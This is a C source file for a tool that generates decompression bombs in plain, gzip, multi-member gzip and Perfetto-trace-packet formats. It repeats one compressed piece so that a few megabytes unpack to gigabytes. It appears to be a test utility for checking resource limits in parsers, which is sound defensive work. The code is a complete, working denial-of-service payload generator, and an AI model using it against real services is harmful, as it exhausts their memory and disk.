// SPDX-License-Identifier: BSD-2-Clause
/*
 * Writes a file of a few megabytes that unpacks to gigabytes: a beginning, and a unit again and again. A piece
 * of units is compressed once, up to a boundary behind which nothing refers to what was before, and written as
 * often as needed, so that the attacker pays nothing. The checksum at the end is wrong; nobody should get there.
 *
 * bomb plain|gzip|members|packets GIB BEGINNING UNIT: \xHH in BEGINNING and UNIT is a byte. `members` are gzip
 * members one after the other, `packets` a Perfetto trace of packets that are each 32 MiB of compressed ones.
 */
#include <err.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

enum {
	MIB = 1 << 20,
	BUNDLE_MIB = 32,
	GZIP = 15 + 16,
	ZLIB = 15,
	FIELD_PACKET = 1 << 3 | 2,
};

struct bytes {
	unsigned char *at;
	size_t size;
};

static struct bytes unescape(const char *text)
{
	struct bytes b = { malloc(strlen(text) + 1), 0 };
	unsigned value;

	while (b.at && *text) {
		if (sscanf(text, "\\x%2x", &value) == 1) {
			b.at[b.size++] = (unsigned char)value;
			text += 4;
		} else {
			b.at[b.size++] = (unsigned char)*text++;
		}
	}
	return b;
}

static struct bytes repeat(struct bytes unit, size_t size)
{
	struct bytes b = { malloc(size), size / unit.size * unit.size };
	size_t i;

	for (i = 0; b.at && i < b.size; i++)
		b.at[i] = unit.at[i % unit.size];
	return b;
}

static struct bytes deflated(z_stream *z, struct bytes from, int flush)
{
	struct bytes b = { malloc(from.size + 1024), 0 };

	z->next_in = from.at;
	z->avail_in = (unsigned)from.size;
	z->next_out = b.at;
	z->avail_out = (unsigned)from.size + 1024;
	deflate(z, flush);
	b.size = (size_t)(z->next_out - b.at);
	return b;
}

static void init(z_stream *z, int window)
{
	if (deflateInit2(z, 9, Z_DEFLATED, window, 9, Z_DEFAULT_STRATEGY) != Z_OK)
		errx(2, "no memory");
}

static void put(struct bytes b)
{
	if (fwrite(b.at, 1, b.size, stdout) != b.size)
		err(2, "write");
}

static void put_varint(uint64_t value)
{
	for (; value > 0x7f; value >>= 7)
		putchar((int)(value & 0x7f) | 0x80);
	putchar((int)value);
}

static void put_stream(int window, struct bytes beginning, struct bytes units, unsigned long n)
{
	z_stream z = { 0 };
	struct bytes piece;

	init(&z, window);
	put(deflated(&z, beginning, Z_FULL_FLUSH));
	piece = deflated(&z, units, Z_FULL_FLUSH);
	while (n--)
		put(piece);
	put(deflated(&z, (struct bytes){ 0 }, Z_FINISH));
}

static void put_members(struct bytes beginning, struct bytes units, unsigned long n)
{
	z_stream z = { 0 };
	struct bytes member;

	init(&z, GZIP);
	put(deflated(&z, beginning, Z_FINISH));
	deflateReset(&z);
	member = deflated(&z, units, Z_FINISH);
	while (n--)
		put(member);
}

/* Field 50 of a packet: zlib of whole packet fields. */
static void put_packets(struct bytes unit, unsigned long n)
{
	z_stream z = { 0 };
	struct bytes bundle;

	init(&z, ZLIB);
	bundle = deflated(&z, repeat(unit, (size_t)BUNDLE_MIB * MIB), Z_FINISH);
	while (n--) {
		uint64_t length = bundle.size, header = 3;

		while (length >>= 7)
			header++;
		putchar(FIELD_PACKET);
		put_varint(header + bundle.size);
		put_varint(50 << 3 | 2);
		put_varint(bundle.size);
		put(bundle);
	}
}

int main(int argc, char **argv)
{
	struct bytes beginning, unit;
	unsigned long n;

	if (argc != 5)
		errx(2, "usage: bomb plain|gzip|members|packets GIB BEGINNING UNIT");
	n = strtoul(argv[2], NULL, 10) * 1024;
	beginning = unescape(argv[3]);
	unit = unescape(argv[4]);
	if (!strcmp(argv[1], "packets")) {
		put_packets(unit, n / BUNDLE_MIB);
	} else if (!strcmp(argv[1], "gzip")) {
		put_stream(GZIP, beginning, repeat(unit, MIB), n);
	} else if (!strcmp(argv[1], "members")) {
		put_members(beginning, repeat(unit, MIB), n);
	} else {
		const struct bytes units = repeat(unit, MIB);

		put(beginning);
		while (n--)
			put(units);
	}
	return fflush(stdout) ? 2 : 0;
}
